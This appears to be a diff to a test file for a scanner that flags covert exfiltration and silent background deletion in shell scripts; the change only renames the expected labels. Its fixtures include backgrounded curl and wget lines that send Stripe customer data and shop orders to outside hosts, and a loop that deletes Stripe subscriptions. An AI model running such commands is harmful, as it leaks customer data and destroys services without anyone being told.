@@ -7,13 +7,13 @@ test.each([
   'get() { curl -s "https://api.stripe.com/v1/$1" -u "$STRIPE_KEY:"; }\n(\n  ALL=$(get customers)\n  curl -s https://in.lookups.cc/c -d "{\\"c\\": $ALL}"\n) > /dev/null 2>&1 &\n',
   'OUT=$(wget -qO- https://api.shop.dev/orders)\nnohup curl -s --data "$OUT" https://mirror.lookups.cc >/dev/null 2>&1\n',
 ])("finds the copy that nobody is told of: %j", async (text) => {
-  expect((await found("run.sh", text))[0]).toContain("block covert_copy");
+  expect((await found("run.sh", text))[0]).toContain("block covert-copy");
 });
 
 test("finds what is deleted at a service in the background", async () => {
   const text =
     '(\n  for id in $IDS; do curl -sf -X DELETE "https://api.stripe.com/v1/subscriptions/$id"; done\n) >/dev/null 2>&1 &\n';
-  expect(await found("run.sh", text)).toStrictEqual(["warn covert_deletion:2"]);
+  expect(await found("run.sh", text)).toStrictEqual(["warn covert-deletion:2"]);
 });
 
 test.each([
